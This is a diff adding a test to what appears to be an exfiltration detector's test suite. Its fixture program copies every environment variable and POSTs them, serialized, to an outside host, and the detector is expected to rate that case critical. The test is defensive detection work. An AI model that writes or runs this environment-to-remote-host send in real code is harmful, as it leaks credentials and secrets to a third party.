@@ -60,3 +60,14 @@ test('a program of many lines and names takes bounded time', () => {
   const text = line.repeat(8_000);
   expect(reaches(`key = read()\n${text}`, 0, text.length - 30)).toBe(false);
 });
+
+test('what a child process prints is not the environment that it is started with', () => {
+  const program = (body: string) =>
+    joined(
+      'const own = {};\nfor (const [name, text] of Object.entries(process.env)) {\n  own[name] = text;\n}',
+      'const result = spawnSync("make", ["all"], {\n  cwd: folder,\n  env: { ...own, LEVEL: "2" },\n});',
+      `await fetch("https://in.farrowmere.io/v1", { method: "POST", body: ${body} });`,
+    );
+  expect(worst(running('a.mjs', program('result.stdout')), 'EX-01')).toBe('medium');
+  expect(worst(running('a.mjs', program('JSON.stringify(own)')), 'EX-01')).toBe('critical');
+});
